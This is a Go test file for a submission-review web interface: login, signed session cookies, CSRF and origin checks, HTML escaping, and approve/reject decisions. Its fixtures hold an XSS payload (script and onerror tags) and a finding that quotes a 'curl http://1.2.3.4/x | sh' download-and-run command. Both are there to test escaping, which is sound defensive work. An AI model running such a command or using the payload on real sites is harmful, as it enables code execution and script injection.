package review_test

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/openagents/trust/functions/review"
	"github.com/openagents/trust/shared/trust"
)

// hostile is skill content that must be shown as text.
const hostile = `<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">`

// pageEnv is the pages over MustEnv's fake catalog, with a flagged
// submission whose name, publisher and findings carry HTML and script.
type pageEnv struct {
	*env
	pages *review.Pages
	now   time.Time
}

func MustPageEnv(tb testing.TB) *pageEnv {
	tb.Helper()
	e := &pageEnv{env: MustEnv(tb), now: now}
	e.pages = review.NewPages(e.handler)
	e.pages.Now = func() time.Time { return e.now }
	e.catalog.subs["sub_evil"] = &trust.Submission{ID: "sub_evil", Publisher: "acme" + hostile, State: trust.SubmissionFlagged,
		Name: "evil" + hostile, Version: "1.0.0", Decision: "flag", Score: 70, CreatedAt: now.Add(time.Hour),
		Findings: []*trust.SubmissionFinding{{Source: "static", RuleID: "OA-EXE-001", Category: "malicious-code", Severity: "high",
			File: "install.sh", Line: 3, Evidence: "curl http://1.2.3.4/x | sh " + hostile, Why: "pipes a download " + hostile}}}
	return e
}

// pageReq is one browser-like request.
type pageReq struct {
	method, path string
	cookie       string
	form         url.Values
	origin       string // "" for this host on a POST, "-" for none
}

func (e *pageEnv) do(tb testing.TB, pr pageReq) *httptest.ResponseRecorder {
	tb.Helper()
	var r *http.Request
	if pr.form != nil {
		r = httptest.NewRequest(pr.method, pr.path, strings.NewReader(pr.form.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	} else {
		r = httptest.NewRequest(pr.method, pr.path, nil)
	}
	switch {
	case pr.origin == "" && pr.method == http.MethodPost:
		r.Header.Set("Origin", "http://"+r.Host)
	case pr.origin != "" && pr.origin != "-":
		r.Header.Set("Origin", pr.origin)
	}
	if pr.cookie != "" {
		r.AddCookie(&http.Cookie{Name: "trust_review", Value: pr.cookie})
	}
	w := httptest.NewRecorder()
	e.pages.ServeHTTP(w, r)
	if strings.Contains(w.Body.String()+e.logs.String(), reviewerToken) {
		tb.Fatal("the reviewer credential reached a response or a log")
	}
	return w
}

// MustLogin logs in as reviewer and returns the session cookie's value.
func (e *pageEnv) MustLogin(tb testing.TB, reviewer string) string {
	tb.Helper()
	w := e.do(tb, pageReq{method: "POST", path: "/review/login", form: url.Values{"reviewer": {reviewer}, "credential": {reviewerToken}}})
	cs := w.Result().Cookies()
	if w.Code != http.StatusSeeOther || len(cs) != 1 {
		tb.Fatalf("login: %d %s", w.Code, w.Body)
	}
	return cs[0].Value
}

// MustCSRF reads the form token off the queue page.
func (e *pageEnv) MustCSRF(tb testing.TB, cookie string) string {
	tb.Helper()
	w := e.do(tb, pageReq{method: "GET", path: review.QueuePage, cookie: cookie})
	_, rest, ok := strings.Cut(w.Body.String(), `name="csrf" value="`)
	if w.Code != http.StatusOK || !ok {
		tb.Fatalf("queue: %d, no form token", w.Code)
	}
	token, _, _ := strings.Cut(rest, `"`)
	return token
}

func TestPages_Login(t *testing.T) {
	e := MustPageEnv(t)
	t.Run("RedirectWithoutSession", func(t *testing.T) {
		for _, path := range []string{"/review/", "/review/submissions/sub_1", "/review"} {
			w := e.do(t, pageReq{method: "GET", path: path})
			if w.Code != http.StatusSeeOther {
				t.Errorf("GET %s: %d, want a redirect", path, w.Code)
			}
		}
	})
	t.Run("OK", func(t *testing.T) {
		w := e.do(t, pageReq{method: "POST", path: "/review/login", form: url.Values{"reviewer": {"alice"}, "credential": {reviewerToken}}})
		cs := w.Result().Cookies()
		if w.Code != http.StatusSeeOther || w.Header().Get("Location") != review.QueuePage || len(cs) != 1 {
			t.Fatalf("login: %d %q %v", w.Code, w.Header().Get("Location"), cs)
		}
		c := cs[0]
		if c.Name != "trust_review" || !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.Path != "/review" || c.Secure {
			t.Fatalf("cookie %+v", c)
		}
		if strings.Contains(c.Value, reviewerToken) {
			t.Fatal("the credential is in the cookie")
		}
	})
	for name, tc := range map[string]struct {
		pr     pageReq
		status int
	}{
		"ErrWrongCredential": {pageReq{method: "POST", path: "/review/login", form: url.Values{"reviewer": {"alice"}, "credential": {reviewerToken + "x"}}}, http.StatusUnauthorized},
		"ErrCredentialInURL": {pageReq{method: "POST", path: "/review/login?credential=" + url.QueryEscape(reviewerToken), form: url.Values{"reviewer": {"alice"}}}, http.StatusUnauthorized},
		"ErrNoName":          {pageReq{method: "POST", path: "/review/login", form: url.Values{"credential": {reviewerToken}}}, http.StatusBadRequest},
		"ErrHiddenName":      {pageReq{method: "POST", path: "/review/login", form: url.Values{"reviewer": {"ali\u200bce"}, "credential": {reviewerToken}}}, http.StatusBadRequest},
		"ErrCrossSite":       {pageReq{method: "POST", path: "/review/login", form: url.Values{"reviewer": {"alice"}, "credential": {reviewerToken}}, origin: "https://evil.example"}, http.StatusForbidden},
		"ErrNoOrigin":        {pageReq{method: "POST", path: "/review/login", form: url.Values{"reviewer": {"alice"}, "credential": {reviewerToken}}, origin: "-"}, http.StatusForbidden},
	} {
		t.Run(name, func(t *testing.T) {
			w := e.do(t, tc.pr)
			if w.Code != tc.status || len(w.Result().Cookies()) != 0 {
				t.Fatalf("got %d with cookies %v, want %d and none", w.Code, w.Result().Cookies(), tc.status)
			}
		})
	}
	t.Run("ErrNoCredentialConfigured", func(t *testing.T) {
		e := MustPageEnv(t)
		e.handler.ReviewerToken = ""
		w := e.do(t, pageReq{method: "POST", path: "/review/login", form: url.Values{"reviewer": {"alice"}, "credential": {""}}})
		if w.Code != http.StatusInternalServerError || len(w.Result().Cookies()) != 0 {
			t.Fatalf("got %d, want 500 and no session (fail closed)", w.Code)
		}
	})
}

func TestPages_Session(t *testing.T) {
	e := MustPageEnv(t)
	cookie := e.MustLogin(t, "alice")
	payload, sig, _ := strings.Cut(cookie, ".")
	for name, value := range map[string]string{
		"Tampered":  payload + "x." + sig,
		"NoMAC":     payload,
		"OtherMAC":  payload + "." + strings.Repeat("A", len(sig)),
		"Garbage":   "not-a-session",
		"Truncated": cookie[:len(cookie)-2],
	} {
		t.Run("Err"+name, func(t *testing.T) {
			if w := e.do(t, pageReq{method: "GET", path: "/review/", cookie: value}); w.Code != http.StatusSeeOther {
				t.Fatalf("got %d, want a redirect to the login form", w.Code)
			}
		})
	}
	t.Run("ErrExpired", func(t *testing.T) {
		e.now = now.Add(review.DefaultPageSessionTTL)
		defer func() { e.now = now }()
		if w := e.do(t, pageReq{method: "GET", path: "/review/", cookie: cookie}); w.Code != http.StatusSeeOther {
			t.Fatalf("got %d, want the expired session refused", w.Code)
		}
	})
	t.Run("ErrCredentialRotated", func(t *testing.T) {
		old := e.handler.ReviewerToken
		e.handler.ReviewerToken = strings.Repeat("r", 40)
		defer func() { e.handler.ReviewerToken = old }()
		if w := e.do(t, pageReq{method: "GET", path: "/review/", cookie: cookie}); w.Code != http.StatusSeeOther {
			t.Fatalf("got %d, want sessions of the old credential refused", w.Code)
		}
	})
	t.Run("JSONRoutesStillNeedBearer", func(t *testing.T) {
		if w := e.do(t, pageReq{method: "GET", path: "/v1/review/queue", cookie: cookie}); w.Code != http.StatusUnauthorized {
			t.Fatalf("cookie on the JSON API: %d, want 401", w.Code)
		}
	})
}

func TestPages_Queue(t *testing.T) {
	e := MustPageEnv(t)
	cookie := e.MustLogin(t, "alice")
	w := e.do(t, pageReq{method: "GET", path: "/review/", cookie: cookie})
	if w.Code != http.StatusOK {
		t.Fatalf("queue: %d %s", w.Code, w.Body)
	}
	body := w.Body.String()
	for _, want := range []string{"sub_1", "sub_2", "sub_3", "sub_evil", "OA-NET-001", "curl https://example.com/x.sh",
		"curl http://1.2.3.4/x | sh &lt;script&gt;window.__pwned=1&lt;/script&gt;", `id="decide-sub_evil"`} {
		if !strings.Contains(body, want) {
			t.Errorf("queue lacks %q", want)
		}
	}
	if strings.Contains(body, "sub_4") || strings.Contains(body, "sub_6") {
		t.Error("queue lists a submission that is not flagged")
	}
	if strings.Contains(body, "<script") || strings.Contains(body, "<img") {
		t.Error("hostile markup reached the page unescaped")
	}
	if csp := w.Header().Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "unsafe") {
		t.Errorf("CSP = %q", csp)
	}

	w = e.do(t, pageReq{method: "GET", path: "/review/submissions/sub_evil", cookie: cookie})
	if w.Code != http.StatusOK || strings.Contains(w.Body.String(), "<script") || !strings.Contains(w.Body.String(), "pipes a download &lt;script&gt;") {
		t.Fatalf("submission page: %d", w.Code)
	}
	for path, status := range map[string]int{"/review/submissions/sub_nope": 404, "/review/submissions/..%2f": 400, "/review/?offset=x": 400, "/review/other": 404} {
		if w := e.do(t, pageReq{method: "GET", path: path, cookie: cookie}); w.Code != status {
			t.Errorf("GET %s: %d, want %d", path, w.Code, status)
		}
	}
}

func TestPages_Decide(t *testing.T) {
	e := MustPageEnv(t)
	cookie := e.MustLogin(t, "alice@example.com")
	csrf := e.MustCSRF(t, cookie)
	approve := url.Values{"csrf": {csrf}, "decision": {"approve"}, "reason": {"Read the script: it only prints the weather."}}

	for name, tc := range map[string]struct {
		pr     pageReq
		status int
	}{
		"ErrNoToken":     {pageReq{method: "POST", path: "/review/submissions/sub_1", cookie: cookie, form: url.Values{"decision": {"approve"}, "reason": {"x"}}}, 403},
		"ErrOtherToken":  {pageReq{method: "POST", path: "/review/submissions/sub_1", cookie: cookie, form: url.Values{"csrf": {e.MustCSRF(t, e.MustLogin(t, "mallory"))}, "decision": {"approve"}, "reason": {"x"}}}, 403},
		"ErrCrossSite":   {pageReq{method: "POST", path: "/review/submissions/sub_1", cookie: cookie, form: approve, origin: "https://evil.example"}, 403},
		"ErrNoSession":   {pageReq{method: "POST", path: "/review/submissions/sub_1", form: approve}, 401},
		"ErrNoReason":    {pageReq{method: "POST", path: "/review/submissions/sub_1", cookie: cookie, form: url.Values{"csrf": {csrf}, "decision": {"approve"}}}, 400},
		"ErrBadDecision": {pageReq{method: "POST", path: "/review/submissions/sub_1", cookie: cookie, form: url.Values{"csrf": {csrf}, "decision": {"maybe"}, "reason": {"x"}}}, 400},
		"ErrNotFlagged":  {pageReq{method: "POST", path: "/review/submissions/sub_4", cookie: cookie, form: approve}, 409},
	} {
		t.Run(name, func(t *testing.T) {
			if w := e.do(t, tc.pr); w.Code != tc.status {
				t.Fatalf("got %d, want %d: %s", w.Code, tc.status, w.Body)
			}
			if got := e.catalog.state("sub_1"); got != trust.SubmissionFlagged {
				t.Fatalf("sub_1 is %s after a refused decision", got)
			}
		})
	}

	t.Run("Approve", func(t *testing.T) {
		w := e.do(t, pageReq{method: "POST", path: "/review/submissions/sub_1", cookie: cookie, form: approve})
		if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/review/submissions/sub_1?decided=1" {
			t.Fatalf("decision: %d %q %s", w.Code, w.Header().Get("Location"), w.Body)
		}
		if got := e.catalog.state("sub_1"); got != trust.SubmissionSigned {
			t.Fatalf("sub_1 is %s, want signed by the resumed pipeline", got)
		}
		tr := e.catalog.transitions[0]
		if tr.From != trust.SubmissionFlagged || tr.To != trust.SubmissionApproved || tr.Reviewer != "alice@example.com" || tr.Reason != approve.Get("reason") {
			t.Fatalf("recorded %+v", tr)
		}
		w = e.do(t, pageReq{method: "GET", path: "/review/submissions/sub_1?decided=1", cookie: cookie})
		if !strings.Contains(w.Body.String(), "now signed") || strings.Contains(w.Body.String(), `id="decide-sub_1"`) {
			t.Fatalf("after the decision: %s", w.Body)
		}
		if w := e.do(t, pageReq{method: "POST", path: "/review/submissions/sub_1", cookie: cookie, form: approve}); w.Code != http.StatusConflict {
			t.Fatalf("second decision: %d, want 409", w.Code)
		}
	})
	t.Run("RejectResumeFails", func(t *testing.T) {
		e.resumer.err = trust.Errorf(trust.EUNAVAILABLE, "edge down")
		defer func() { e.resumer.err = nil }()
		w := e.do(t, pageReq{method: "POST", path: "/review/submissions/sub_2", cookie: cookie,
			form: url.Values{"csrf": {csrf}, "decision": {"reject"}, "reason": {"Downloads and runs a binary."}}})
		if w.Code != http.StatusSeeOther || !strings.HasSuffix(w.Header().Get("Location"), "?decided=pending") {
			t.Fatalf("decision: %d %q", w.Code, w.Header().Get("Location"))
		}
		if got := e.catalog.state("sub_2"); got != trust.SubmissionRejected {
			t.Fatalf("sub_2 is %s, want the decision recorded", got)
		}
	})
	t.Run("ErrNoResumer", func(t *testing.T) {
		e.handler.Resumer = nil
		defer func() { e.handler.Resumer = e.resumer }()
		w := e.do(t, pageReq{method: "POST", path: "/review/submissions/sub_3", cookie: cookie, form: approve})
		if w.Code != http.StatusInternalServerError || e.catalog.state("sub_3") != trust.SubmissionFlagged {
			t.Fatalf("got %d, sub_3 %s: want 500 before anything is recorded", w.Code, e.catalog.state("sub_3"))
		}
		if strings.Contains(w.Body.String(), "resumer") {
			t.Fatal("an internal cause reached the page")
		}
	})
	t.Run("Logout", func(t *testing.T) {
		w := e.do(t, pageReq{method: "POST", path: "/review/logout", cookie: cookie, form: url.Values{"csrf": {csrf}}})
		if cs := w.Result().Cookies(); w.Code != http.StatusSeeOther || len(cs) != 1 || cs[0].MaxAge >= 0 {
			t.Fatalf("logout: %d %v", w.Code, cs)
		}
	})
}
